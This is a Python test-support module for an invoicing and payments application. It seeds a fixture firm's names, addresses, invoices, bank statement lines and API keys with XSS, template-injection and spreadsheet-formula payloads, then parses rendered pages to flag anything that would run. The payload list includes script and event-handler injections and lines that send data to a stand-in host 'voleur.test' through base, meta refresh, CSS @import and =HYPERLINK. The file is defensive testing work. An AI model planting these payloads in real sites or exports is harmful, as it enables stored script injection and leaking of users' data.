"""Texts that would run in a page, a firm full of them, and the eye that sees one run."""

from html import escape
from html.parser import HTMLParser

from encaisse.counterparties.services import CustomerDraft, create_customer
from encaisse.identity.devices import remember
from encaisse.invoicing.core.amounts import Line, VatRate
from encaisse.invoicing.services.quotes import refuse_quote
from encaisse.kernel.money import Money
from encaisse.kit.clock import business_now, paris_date
from encaisse.kit.tenancy import acting_for
from encaisse.organizations.api_keys import create_api_key
from encaisse.organizations.core import Permission, Role
from encaisse.organizations.services import update_profile
from encaisse.organizations.team import add_member
from encaisse.payments.queries import payments
from encaisse.payments.services.refunds import request_refund
from encaisse.providers.queries import open_plugin
from encaisse.treasury.services.imports import import_statement
from factories.invoicing import accept, make_invoice, make_sent_quote
from factories.organizations import NOW, make_profile_draft, make_user, random_siren
from factories.payments import PayableFirm
from factories.treasury import transfer_to
from plugins.world import eventually

# `xq9` is what none of our own pages ever says.
PAYLOADS = [
    "<script>xq9()</script>",
    "<img src=x onerror=xq9()>",
    "<svg/onload=xq9()>",
    '"><svg onload=xq9()>',
    "'><img src=x onerror=xq9()>",
    '" autofocus onfocus="xq9()',
    "' onmouseover='xq9()' x='",
    "` onclick=`xq9()",
    "</textarea><script>xq9()</script>",
    "</title><script>xq9()</script>",
    "</style><script>xq9()</script>",
    "</script><script>xq9()</script>",
    '<a href="javascript:xq9()">xq9</a>',
    "javascript:xq9()",
    '<iframe srcdoc="<script>xq9()</script>">',
    "<math><mtext><mglyph><style><img src=x onerror=xq9()>",
    "<form><button formaction=javascript:xq9()>xq9",
    "{{7*7}}xq9{% debug %}${7*7}#{7*7}",
    "--><script>xq9()</script>",
    "&lt;script&gt;xq9()&lt;/script&gt;",
    "%3Cscript%3Exq9()%3C/script%3E",
    "\\x3cscript\\x3exq9()\\x3c/script\\x3e",
    "<<script>script>xq9()</</script>script>",
    "<base href=//voleur.test?xq9>",
    "<meta http-equiv=refresh content=0;url=//voleur.test?xq9>",
    "<style>@import'//voleur.test?xq9'</style>",
]
PAIRS = list(zip(PAYLOADS[::2], PAYLOADS[1::2], strict=True))
FORMULAS = [
    '=HYPERLINK("http://voleur.test?xq9","x")', "+xq9", "-xq9", "@SUM(xq9)", "＝xq9",
]  # fmt: skip
_SHORT = 20


class Eye(HTMLParser):
    """Reads a page as a browser does, and keeps what would run or lead away."""

    _FOREIGN = frozenset({"base", "embed", "frame", "iframe", "math", "object", "style"})
    _ADDRESSES = frozenset(
        {"action", "background", "data", "formaction", "href", "poster", "src", "srcdoc",
         "xlink:href"}
    )  # fmt: skip

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.alarms: list[str] = []
        self.texts: list[str] = []
        self._in_script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if tag in self._FOREIGN:
            self.alarms.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.alarms.append("<meta http-equiv>")
        if tag == "script":
            self._in_script = True
            if not values.get("nonce") or not values.get("src", "/static/").startswith("/static/"):
                self.alarms.append(f"<script {values}>")
        for name, value in values.items():
            self._look_at(tag, name, value)
        self.texts += values.values()

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and "xq9" in data:
            self.alarms.append(f"in a script: {data}")
        self.texts.append(data)

    def _look_at(self, tag, name, value):
        plain = "".join(c for c in value if c.isprintable() and c != " ").lower()
        if name.startswith("on") or "xq9" in name:
            self.alarms.append(f"{name}={value}")
        if name == "style":
            self.alarms.append(f"style={value}")
        if name in self._ADDRESSES:
            is_image = tag == "img" and plain.startswith("data:image/")
            if plain.startswith(("javascript:", "vbscript:", "data:")) and not is_image:
                self.alarms.append(f"{name}={value}")
            if "//voleur.test" in plain and not plain.startswith(("http://127", "/", "?")):
                self.alarms.append(f"{name}={value}")


def alarms(answer) -> list[str]:
    """Return what would run in an answer that a browser draws."""
    kind = answer.get("Content-Type", "")
    if not kind.startswith(("text/html", "image/svg", "application/xhtml")) or answer.streaming:
        return []
    page = answer.content.decode()
    computed = ["7*7 was computed"] if "49xq9" in page else []
    return Eye(page).alarms + computed


def texts(answer) -> str:
    return " ".join(Eye(answer.content.decode()).texts)


class PoisonedFirm(PayableFirm):
    """A firm in which every text that anybody may write is one of the payloads."""

    def __init__(self, world) -> None:
        super().__init__(world, name=PAYLOADS[0])
        self.owner.full_name = PAYLOADS[1]
        self.owner.save()
        self.rename(3)
        self.customers = [self._customer(*pair) for pair in PAIRS]
        self.quotes, self.invoices, self.requests = [], [], []
        for customer, pair in zip(self.customers, PAIRS, strict=True):
            self._documents(customer, *pair)
        self._people()
        self._money()
        self.keys = [self._key(payload) for payload in PAYLOADS[::2]]
        for payload in PAYLOADS[:6]:
            remember(user_id=self.owner.id, token="", agent=payload[:60], real_now=business_now())

    def rename(self, turn: int) -> None:
        """Write other payloads into each text of the firm's own profile."""

        def text(number: int, largest: int) -> str:
            fitting = [payload for payload in PAYLOADS if len(payload) <= largest]
            return fitting[(turn + number) % len(fitting)]

        draft = make_profile_draft(
            name=text(0, 80), legal_name=text(1, 120), legal_form=text(2, 60), street=text(3, 120),
            postal_code="xq9<b>", city=text(4, 60), trade_register_city=text(5, 60),
            website="javascript:xq9()", insurance=text(6, 240), mediator=text(7, 240),
            siren=random_siren(), phone="<b>xq9",
        )  # fmt: skip
        update_profile(organization_id=self.id, actor=self.actor, draft=draft, now=business_now())

    def _customer(self, payload: str, other: str):
        draft = CustomerDraft(
            name=payload, email="camille@example.test", street=other, city=payload[:60],
            postal_code=payload[:10], phone=payload[:_SHORT],
        )  # fmt: skip
        return create_customer(
            organization_id=self.id, actor=self.actor, draft=draft, now=business_now()
        )

    def _documents(self, customer, payload: str, other: str) -> None:
        lines = (Line(other, 1000, payload[:_SHORT], Money(10_00), VatRate.NORMAL),)
        values = {"customer_id": customer.id, "subject": payload, "lines": lines}
        quote = make_sent_quote(self, **values)
        if len(self.quotes) % 2:
            accept(self, quote, name=other)
        else:
            refuse_quote(organization_id=self.id, quote_id=quote.id, word=other, now=business_now())
        self.quotes.append(quote)
        self.invoices.append(make_invoice(self, **values))
        self.requests.append(self.request(description=payload, counterparty_id=customer.id))

    def _people(self) -> None:
        for payload in PAYLOADS[::3]:
            user = make_user(full_name=payload)
            add_member(
                organization_id=self.id, actor=self.actor, user_id=user.id, role=Role.AUDITOR,
                now=NOW,
            )  # fmt: skip

    def _money(self) -> None:
        """One payment by card, one refund, and lines of the bank written by strangers."""
        request = self.requests[0]
        self.pay(request)
        self.payment = eventually(self._captured)
        request_refund(
            organization_id=self.id, actor=self.actor, intent_id=self.payment.id,
            amount=Money(100), reason=PAYLOADS[4], now=business_now(),
        )  # fmt: skip
        for number in range(len(PAIRS)):
            transfer_to(self, 1_00 + number, f"XQNEUF {number:02d} FIN")
        self._import_poisoned_statement()

    def _captured(self):
        with acting_for(self.id):
            return payments(organization_id=self.id).filter(state="captured").first()

    def _import_poisoned_statement(self) -> None:
        opened = open_plugin(organization_id=self.id, connection_id=self.connection.id)
        today = paris_date(business_now())
        content = opened.bank_statement(iban=self.iban, first_day=today, last_day=today).decode()
        for number, pair in enumerate(PAIRS):
            content = content.replace(f"XQNEUF {number:02d} FIN", escape(" ".join(pair)))
        content = content.replace("Camille Leroy", escape(PAYLOADS[3]))
        import_statement(
            organization_id=self.id, actor=self.actor, name=PAYLOADS[1],
            content=content.encode(), now=business_now(),
        )  # fmt: skip

    def _key(self, payload: str):
        return create_api_key(
            organization_id=self.id, actor=self.actor, name=payload,
            scopes=[Permission.CUSTOMERS_READ], expires_at=None, now=business_now(),
        ).key  # fmt: skip
